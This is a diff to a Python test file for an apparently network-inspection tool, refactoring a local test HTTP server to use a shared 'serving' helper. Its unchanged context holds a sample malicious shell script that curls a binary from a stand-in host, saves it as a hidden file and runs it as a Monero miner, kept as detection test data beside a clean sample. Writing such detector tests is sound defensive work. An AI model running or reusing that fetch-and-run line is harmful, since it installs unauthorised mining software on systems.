@@ -7,7 +7,6 @@ from __future__ import annotations
 
 import gzip
 import subprocess
-import threading
 import zlib
 from collections.abc import Iterator
 from contextlib import contextmanager
@@ -24,7 +23,7 @@ from cloudward.network.inspect import InspectOptions, Totals, inspect_capture, p
 from cloudward.network.pipeline import inspectables
 from cloudward.network.protocols.base import ParserLimits
 from cloudward.network.protocols.http import decode_content
-from tests.network.capturing import capture_lo
+from tests.network.capturing import capture_lo, serving
 
 SCRIPT = b"#!/bin/sh\ncurl -s http://pool.example/x -o /tmp/.x && /tmp/.x --donate-level 1 -o xmr.example:3333\n"
 CLEAN = b"#!/bin/sh\necho backup done\n"
@@ -65,13 +64,8 @@ class _Handler(BaseHTTPRequestHandler):
 @contextmanager
 def server() -> Iterator[int]:
     httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
-    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
-    thread.start()
-    try:
+    with serving(httpd):
         yield httpd.server_address[1]
-    finally:
-        httpd.shutdown()
-        httpd.server_close()
 
 
 @pytest.fixture(scope="module")
